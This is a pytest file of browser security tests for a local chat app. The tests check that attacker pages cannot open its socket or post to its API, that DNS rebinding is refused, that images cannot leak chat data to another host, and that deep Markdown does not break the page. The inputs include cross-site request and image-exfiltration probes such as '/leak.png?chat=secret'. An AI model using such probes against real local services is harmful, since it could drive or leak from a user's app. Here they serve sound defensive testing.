"""Issue 16 in a real Chromium, no --auth-token: pages on other origins cannot drive the app, DNS rebinding
is refused, the page survives deep Markdown, and images come only from the app (items 2 and 6), or from the
page's own blob: URLs (an attached image's thumbnail, issue 35 item 9)."""
import time

import pytest

from tests import sample_documents as samples
from tests.attacker import SOCKET_PROBE_JS, attacker_site
from tests.support.app_process import get
from tests.support.metrics import metric_value
from tests.support.page import CHROMIUM_ARGS, attach

pytestmark = pytest.mark.timeout(300)


def messages_received(app):
    return metric_value(get(app.url + "/metrics")[1], "ernie_chat_messages_total")


def test_page_on_another_port_cannot_open_the_chat_socket(browser, served_app):
    context = browser.new_context()
    page = context.new_page()
    with attacker_site() as site:
        page.goto(site.url + "/")
        assert page.evaluate(SOCKET_PROBE_JS, served_app.url) == "handshake failed"
        # The same probe from the app's own page connects: the refusal is about the origin. (The page also logs
        # the local user in: with chat history on, the socket wants that login.)
        page.goto(served_app.url + "/")
        assert page.evaluate(SOCKET_PROBE_JS, served_app.url) == "connected"
    context.close()


def test_cross_site_text_plain_post_to_v1_is_not_run(browser, served_app):
    before = messages_received(served_app)
    context = browser.new_context()
    page = context.new_page()
    body = '{"messages": [{"role": "user", "content": "hi"}], "max_tokens": 4}'
    send = """async ([url, body]) => { await fetch(url, {method: 'POST', mode: 'no-cors', body: body,
                                                     headers: {'Content-Type': 'text/plain'}}); return 'sent'; }"""
    with attacker_site() as site:
        page.goto(site.url + "/")
        assert page.evaluate(send, [served_app.url + "/v1/chat/completions", body]) == "sent"
    time.sleep(1)
    assert messages_received(served_app) == before
    context.close()


def test_dns_rebinding_name_is_refused(browser, served_app):
    # rebind.test resolves to the app's address, as an attacker's DNS does after its page loaded.
    chromium = browser.browser_type.launch(executable_path="/usr/bin/chromium",
                                           args=CHROMIUM_ARGS + ["--host-resolver-rules=MAP rebind.test 127.0.0.1"])
    try:
        page = chromium.new_page()
        response = page.goto(f"http://rebind.test:{served_app.port}/v1/models")
        assert response.status == 403 and "--allowed-hosts" in page.inner_text("body")
        assert page.goto(f"http://127.0.0.1:{served_app.port}/v1/models").status == 200
    finally:
        chromium.close()


IMAGES_JS = """async ([other, own]) => {
  const violations = [];
  document.addEventListener('securitypolicyviolation', (e) => violations.push(e.blockedURI));
  const load = (src) => new Promise(resolve => { const img = new Image(); img.onload = () => resolve('loaded');
    img.onerror = () => resolve('blocked'); img.src = src; document.body.appendChild(img); });
  return {other: await load(other), own: await load(own), violations}; }"""


def test_images_only_from_the_app_itself(page_for, served_app):
    page = page_for()
    with attacker_site() as site:
        seen = page.evaluate(IMAGES_JS, [site.url + "/leak.png?chat=secret", served_app.url + "/favicon"])
        time.sleep(0.5)
        assert seen["other"] == "blocked" and seen["own"] == "loaded", seen
        assert any("leak.png" in v for v in seen["violations"]), seen
        assert site.hits == []  # the browser never asked the other server


def test_an_attached_images_thumbnail_shows_in_the_composer(page_for, tmp_path):
    """The composer shows a picked image from a blob: URL the page makes itself; img-src once blocked it."""
    page = page_for()
    page.evaluate("""() => { window.__violations = [];
        document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.blockedURI)); }""")
    attach(page, samples.png(tmp_path / "photo.png"))
    thumbnail = page.locator('img[src^="blob:"]')
    thumbnail.first.wait_for(state="attached", timeout=10000)
    # Loaded or refused, the image is complete; only a loaded one has a size.
    thumbnail.first.evaluate("img => img.complete || new Promise(done => { img.onload = img.onerror = done; })")
    assert thumbnail.first.evaluate("img => img.naturalWidth") > 0, page.evaluate("window.__violations")
    assert page.evaluate("window.__violations") == []


@pytest.mark.parametrize("text", ["- " * 1000 + "x", ">" * 10000])
def test_deeply_nested_message_keeps_the_page_usable(page_for, text):
    page = page_for()
    page.fill("#chat-input", text)
    page.click("#chat-submit")
    # An answer, or the notice that the message is too long for the context: either way the chat went on.
    page.locator('[data-step-type="assistant_message"]').first.wait_for(timeout=60000)
    assert "Maximum call stack" not in page.inner_text("body")
    assert page.locator("#chat-input").is_visible()
    page.fill("#chat-input", "still here")
    page.click("#chat-submit")
    page.get_by_text("still here").wait_for(timeout=10000)
